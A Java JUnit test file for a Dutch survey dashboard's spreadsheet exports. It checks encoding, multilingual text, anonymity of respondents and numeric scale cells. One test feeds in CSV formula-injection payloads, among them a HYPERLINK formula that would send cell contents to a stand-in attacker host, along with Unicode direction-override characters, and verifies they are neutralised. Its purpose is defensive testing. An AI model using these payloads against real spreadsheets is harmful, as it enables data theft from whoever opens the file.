package nl.samenspraak.dashboard;

import io.micronaut.runtime.server.EmbeddedServer;
import nl.samenspraak.support.SharedService;
import jakarta.inject.Inject;
import nl.samenspraak.conversation.Origin;
import nl.samenspraak.security.Account;
import nl.samenspraak.security.Accounts;
import nl.samenspraak.security.Role;
import nl.samenspraak.storage.ConversationRecord;
import nl.samenspraak.storage.ConversationRepository;
import nl.samenspraak.support.PageHttp;
import nl.samenspraak.support.Respondents;
import nl.samenspraak.team.Team;
import nl.samenspraak.team.Teams;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The CSV and XLSX exports read back as a spreadsheet program reads them: UTF-8 (with a byte order mark in the
 * CSV), Turkish and Arabic text intact, flow version and language present, and nothing that leads back to a
 * conversation (no id, no resume code). The free texts are apart from the rows (their own CSV, their own sheet),
 * each text question's column in an order of its own.
 */
@SharedService
class ExportTest {
    static final String PASSWORD = "a long enough password";
    static final String FLOW = "werk-jij-diversiteitsproof";
    static final List<String> TURKISH = List.of("Çok teşekkürler; ğüşıöç İĞÜŞ", "Tercüman bulmak zor.", "Daha çok zaman lazım",
            "Eğitim isterim, \"lütfen\"", "Anneler merkezi iyi çalışıyor");
    static final List<String> ARABIC = List.of("شكرا جزيلا للمساعدة", "نحتاج إلى مترجم", "الوقت قليل جدا", "أريد تدريبا", "مركز الأمهات جيد");

    @Inject
    EmbeddedServer server;
    @Inject
    Accounts accounts;
    @Inject
    Teams teams;
    @Inject
    Respondents respondents;
    @Inject
    ConversationRepository conversations;
    @Inject
    nl.samenspraak.flow.FlowLibrary library;

    PageHttp http;
    Team team;
    String cookie;
    long managerId;
    List<String> ids = new ArrayList<>();

    @BeforeEach
    void seed() {
        http = new PageHttp(server.getURL().toString());
        team = teams.create("Export " + UUID.randomUUID().toString().substring(0, 8), List.of());
        Account manager = accounts.create("export-" + UUID.randomUUID().toString().substring(0, 8), PASSWORD, Role.MANAGER);
        managerId = manager.id();
        teams.addMember(team.id(), manager.id());
        cookie = http.login(manager.username(), PASSWORD);
        for (String text : TURKISH) {
            ids.add(respondents.finish(FLOW, "tr", Origin.team(team.id()), Map.of("opmerking", text, "vaardig_tolk", "tolk")));
        }
        for (String text : ARABIC) {
            ids.add(respondents.finish(FLOW, "ar", Origin.team(team.id()), Map.of("opmerking", text, "vaardig_tolk", "familie")));
        }
    }

    private byte[] download(String kind, String contentType) {
        return download(team, FLOW, "export." + kind, contentType);
    }

    /** {@code file}: "export.csv", "export.xlsx" or "export-texts.csv". */
    private byte[] download(Team of, String flow, String file, String contentType) {
        HttpResponse<byte[]> r = get("/dashboard/teams/" + of.id() + "/flows/" + flow + "/" + file + "?lang=nl");
        assertEquals(200, r.statusCode());
        assertTrue(r.headers().firstValue("content-type").orElse("").startsWith(contentType), r.headers().toString());
        assertTrue(r.headers().firstValue("content-disposition").orElse("").startsWith("attachment; filename=\"samenspraak-"));
        return r.body();
    }

    private HttpResponse<byte[]> get(String path) {
        try {
            return java.net.http.HttpClient.newHttpClient().send(http.request(path).header("Cookie", cookie).GET().build(),
                    HttpResponse.BodyHandlers.ofByteArray());
        } catch (IOException | InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * The rows: one per finished conversation, its answers to the closed questions and no free text (a text in Turkish
     * told the row of one of few Turkish speakers, whose Language column the file hides), no way back to a conversation.
     */
    private void assertAnonymousAnswers(List<String> header, List<List<String>> rows, String everything) {
        assertEquals(List.of("Rij", "Versie", "Taal", "Wijk", "Periode"), header.subList(0, 5));
        assertTrue(header.contains("vaardig_tolk"), header.toString());
        assertFalse(header.contains("opmerking"), "no column of free text in the rows: " + header);
        for (String text : concat(TURKISH, ARABIC)) {
            assertFalse(everything.contains(text), "no free text in the rows: " + text);
        }
        assertEquals(10, rows.size());
        assertEquals(Set.of("1", "2", "3", "4", "5", "6", "7", "8", "9", "10"), rows.stream().map(r -> r.get(0)).collect(Collectors.toSet()));
        String version = library.flow(FLOW).orElseThrow().version();
        assertTrue(rows.stream().allMatch(r -> r.get(1).equals(version)), "the flow version");
        int tolk = header.indexOf("vaardig_tolk");
        String professional = "Met een professionele tolk of de tolkentelefoon";
        for (List<String> row : rows) {
            assertEquals(row.get(tolk).equals(professional) ? "tr" : "ar", row.get(2), "the language it was answered in");
        }
        assertEquals(5, rows.stream().filter(r -> r.get(tolk).equals(professional)).count(), "answers in words");
        for (String id : ids) {
            ConversationRecord c = conversations.findById(id).orElseThrow();
            assertFalse(everything.contains(c.id()), "no conversation id");
            assertFalse(everything.contains(c.resumeCode()), "no resume code");
        }
    }

    /** The texts apart: a column per text question, its texts as typed, nothing else (no row number, no language). */
    private static void assertTexts(List<List<String>> records) {
        assertEquals(List.of("opmerking"), records.get(0), "a header only");
        List<String> texts = records.subList(1, records.size()).stream().map(r -> r.get(0)).toList();
        assertEquals(10, texts.size());
        assertEquals(new HashSet<>(concat(TURKISH, ARABIC)), new HashSet<>(texts), "Turkish and Arabic text intact");
    }

    @Test
    void theCsvIsUtf8WithAByteOrderMarkAndReadsBack() throws IOException {
        byte[] csv = download("csv", "text/csv");
        assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3), "a UTF-8 byte order mark");
        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
        assertAnonymousAnswers(parse(csv).get(0), parse(csv).subList(1, parse(csv).size()), text);
    }

    /** Read with the library the service writes with; {@link nl.samenspraak.support.ExcelCsv} reads as Excel does. */
    private static List<List<String>> parse(byte[] csv) throws IOException {
        List<List<String>> records = new ArrayList<>();
        try (CSVParser parser = CSVParser.parse(new InputStreamReader(new ByteArrayInputStream(csv, 3, csv.length - 3),
                StandardCharsets.UTF_8), ExportFiles.CSV)) {
            for (CSVRecord r : parser) {
                records.add(r.toList());
            }
        }
        return records;
    }

    /** The texts have a CSV of their own, as the rows' (UTF-8 with a byte order mark), linked from the flow page. */
    @Test
    void theTextsCsvHoldsEveryTextIntactAndNothingElse() throws IOException {
        byte[] csv = download(team, FLOW, "export-texts.csv", "text/csv");
        assertArrayEquals(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3), "a UTF-8 byte order mark");
        assertTexts(parse(csv));
        assertEquals(parse(csv), nl.samenspraak.support.ExcelCsv.read(csv).stream().map(r -> (List<String>) r).toList(),
                "Excel reads the same");
        String page = new String(get("/dashboard/teams/" + team.id() + "/flows/" + FLOW + "?lang=nl").body(), StandardCharsets.UTF_8);
        assertTrue(page.contains("id=\"export-texts-csv\" href=\"/dashboard/teams/" + team.id() + "/flows/" + FLOW + "/export-texts.csv?")
                && page.contains("Download antwoorden in eigen woorden als CSV"), "the flow page links to it");
    }

    /** Each sheet of a workbook by name, in order, its rows as the cells' texts (a blank cell ""). */
    private static Map<String, List<List<String>>> sheets(byte[] xlsx) {
        return nl.samenspraak.support.XlsxSheets.read(xlsx);
    }

    @Test
    void theXlsxReadsBackWithTheAnswersAndTheTextsOnASheetOfTheirOwn() throws IOException {
        byte[] xlsx = download("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        Map<String, List<List<String>>> sheets = sheets(xlsx);
        assertEquals(List.of("Antwoorden", "Eigen woorden", "Vragen"), List.copyOf(sheets.keySet()),
                "the rows, then the texts, then what each column asked");
        // each question column named with its question and, for a scale, its ends: the columns are named by step id,
        // and a manager could not tell which column was which question on the page (the manager probe)
        List<List<String>> questions = sheets.get("Vragen");
        assertEquals(List.of("Kolom", "Vraag", "Schaal"), questions.get(0));
        List<String> header = sheets.get("Antwoorden").get(0);
        assertEquals(header.subList(5, header.size()), questions.subList(1, questions.size()).stream().map(r -> r.get(0)).toList(),
                "every question column, in the same order");
        assertTrue(questions.stream().anyMatch(r -> r.get(0).equals("vaardig_tolk")
                && r.get(1).startsWith("Een ouder spreekt weinig Nederlands")), questions.toString());
        assertTrue(questions.stream().anyMatch(r -> r.get(0).equals("houding_nieuwsgierig") && r.get(2).equals("1 = nooit, 5 = altijd")),
                questions.toString());
        List<List<String>> records = sheets.get("Antwoorden");
        StringBuilder everything = new StringBuilder();
        records.forEach(r -> everything.append(r).append('\n'));
        assertAnonymousAnswers(records.get(0), records.subList(1, records.size()), everything.toString());
        assertTexts(sheets.get("Eigen woorden"));
        // the row numbers are numbers a spreadsheet can add up (every cell was text: AVERAGE found nothing)
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx));
             var rows = workbook.getFirstSheet().openStream()) {
            List<Row> all = rows.toList();
            assertEquals(org.dhatim.fastexcel.reader.CellType.NUMBER, all.get(1).getCell(0).getType(), "the row number");
            assertEquals(org.dhatim.fastexcel.reader.CellType.STRING, all.get(0).getCell(0).getType(), "the header");
        }
    }

    /**
     * A scale's points are numbers in the file, its ends too: "1 · helemaal niet" and "5 · altijd" were text, so a
     * spreadsheet's AVERAGE over the column left out every 1 and 5 and disagreed with the page (the manager probe of
     * December 2026: 3.15 over 13 answers where 18 gave 3.44). The seed answers every scale with its first point, 1.
     */
    @Test
    void aScalesEndsAreNumbersAsItsMiddlePointsAre() throws IOException {
        respondents.finish(FLOW, "nl", Origin.team(team.id()), Map.of("houding_nieuwsgierig", 5, "kennis_migratie", 3));
        byte[] xlsx = download("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        nl.samenspraak.flow.Flow flow = library.flow(FLOW).orElseThrow();
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx));
             var rows = workbook.getFirstSheet().openStream()) {
            List<Row> all = rows.toList();
            List<String> header = new ArrayList<>();
            for (int c = 0; c < all.get(0).getCellCount(); c++) {
                header.add(all.get(0).getCellText(c));
            }
            int scales = 0;
            Set<String> seen = new HashSet<>();
            for (int c = 0; c < header.size(); c++) {
                var step = flow.step(header.get(c));
                if (step.isEmpty() || step.get().type() != nl.samenspraak.flow.StepType.SCALE) {
                    continue;
                }
                scales++;
                for (Row row : all.subList(1, all.size())) {
                    var cell = row.getCell(c);
                    if (cell != null && !row.getCellText(c).isEmpty()) {
                        assertEquals(org.dhatim.fastexcel.reader.CellType.NUMBER, cell.getType(),
                                header.get(c) + ": '" + row.getCellText(c) + "' is a number");
                        seen.add(row.getCellText(c));
                    }
                }
            }
            assertTrue(scales >= 5, "the self-reflection's scales: " + header);
            assertTrue(seen.containsAll(Set.of("1", "3", "5")), "both ends and a middle point: " + seen);
        }
        String csv = new String(download("csv", "text/csv"), StandardCharsets.UTF_8);
        assertFalse(csv.contains("1 · ") || csv.contains("5 · "), "the CSV's points are numbers too: " + csv);
    }

    /**
     * The probe's case: a text tells who wrote it (its language, a street), and beside a person's other answers it
     * told those too. A resident's two texts are not on one line of the texts' table either: each column has its own
     * random order. Twenty-four residents each write both: that every pair lines up by luck is a chance of 1 in 24!.
     */
    @Test
    void aResidentsTwoTextsDoNotStayOnOneLine() throws IOException {
        Team wijkteam = teams.create("Export wijk " + UUID.randomUUID().toString().substring(0, 8), List.of("West"));
        teams.addMember(wijkteam.id(), managerId);
        int residents = 24;
        for (int i = 0; i < residents; i++) {
            respondents.finish("wijkanalyse", "nl", new Origin(wijkteam.id(), "West"),
                    Map.of("goed_in_wijk", "Goed " + i, "beter_in_wijk", "Beter " + i));
        }
        for (byte[] file : List.of(download(wijkteam, "wijkanalyse", "export-texts.csv", "text/csv"),
                download(wijkteam, "wijkanalyse", "export.xlsx", "application/vnd"))) {
            List<List<String>> texts = file[0] == (byte) 0xEF ? nl.samenspraak.support.ExcelCsv.read(file) : sheets(file).get("Eigen woorden");
            int goed = texts.get(0).indexOf("goed_in_wijk");
            int beter = texts.get(0).indexOf("beter_in_wijk");
            assertTrue(goed >= 0 && beter >= 0, texts.get(0).toString());
            List<List<String>> lines = texts.subList(1, texts.size());
            assertEquals(residents, lines.size());
            Set<String> goeds = lines.stream().map(l -> l.get(goed)).collect(Collectors.toSet());
            assertEquals(residents, goeds.size(), "every text, once: " + goeds);
            assertTrue(goeds.stream().allMatch(t -> t.startsWith("Goed ")));
            long together = lines.stream().filter(l -> l.get(beter).equals(l.get(goed).replace("Goed", "Beter"))).count();
            assertTrue(together < residents, "a resident's two texts on one line, every one of them");
        }
    }

    @Test
    void aColumnThatWouldSingleSomeoneOutIsHidden() {
        respondents.finish(FLOW, "pl", Origin.team(team.id()), Map.of("opmerking", "Dziękuję"));
        String csv = new String(download("csv", "text/csv"), StandardCharsets.UTF_8);
        assertFalse(csv.contains(";pl;"), "not that one person answered in Polish");
        assertTrue(csv.contains("(verborgen: minder dan 5)"));
        assertFalse(csv.contains("Dziękuję"), "and their remark is not in the rows");
        String texts = new String(download(team, FLOW, "export-texts.csv", "text/csv"), StandardCharsets.UTF_8);
        assertTrue(texts.contains("Dziękuję"), "eleven wrote a remark, so the remarks are there, apart");
    }

    /**
     * A respondent's text that Excel would run as a formula (OWASP's payloads) reaches the manager's CSV as plain
     * text: read back as Excel reads it, no cell starts a formula and each text stands there after an apostrophe.
     * Direction overrides typed in a text are gone from both files (the text reads in the file as it was written).
     */
    @Test
    void formulasTypedByRespondentsDoNotRunInTheTextsCsv() throws IOException {
        List<String> payloads = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=1+1", "+1+1", "-2+3", "@SUM(1+1)");
        for (String payload : payloads) {
            respondents.finish(FLOW, "nl", Origin.team(team.id()), Map.of("opmerking", payload));
        }
        respondents.finish(FLOW, "nl", Origin.team(team.id()), Map.of("opmerking", "Goed\u202E werk\u2066 hier\u2069"));
        List<List<String>> records = nl.samenspraak.support.ExcelCsv.read(download(team, FLOW, "export-texts.csv", "text/csv"));
        assertEquals(17, records.size(), "a header and sixteen remarks");
        for (List<String> record : records) {
            for (String cell : record) {
                assertFalse(nl.samenspraak.support.ExcelCsv.runsAsFormula(cell), cell);
            }
        }
        Set<String> texts = records.stream().map(r -> r.get(0)).collect(Collectors.toSet());
        for (String payload : payloads) {
            assertTrue(texts.contains("'" + payload), payload + " kept as text in " + texts);
        }
        assertTrue(texts.containsAll(TURKISH), "ordinary texts unchanged");
        assertTrue(texts.contains("Goed werk hier"), "no direction controls: " + texts);
        List<String> sheet = sheets(download("xlsx", "application/vnd")).get("Eigen woorden").stream().map(r -> r.get(0)).toList();
        assertTrue(sheet.contains("Goed werk hier") && sheet.contains("=1+1"), "the sheet's cells are text, never a formula: " + sheet);
    }

    private static List<String> concat(List<String> a, List<String> b) {
        List<String> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }
}
